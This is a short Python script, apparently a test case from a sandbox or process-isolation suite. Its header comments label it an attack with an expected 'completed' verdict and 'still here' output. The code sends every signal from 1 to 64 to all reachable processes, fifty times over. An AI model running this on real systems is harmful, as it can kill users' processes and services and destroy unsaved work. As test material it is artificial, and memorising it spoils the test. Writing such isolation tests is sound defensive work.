# attack: sends every signal to every process at once, 50 times over
# verdict: completed
# prints: still here
import os

for _ in range(50):
    for number in range(1, 65):
        try:
            os.kill(-1, number)
        except OSError:
            pass
print("still here")
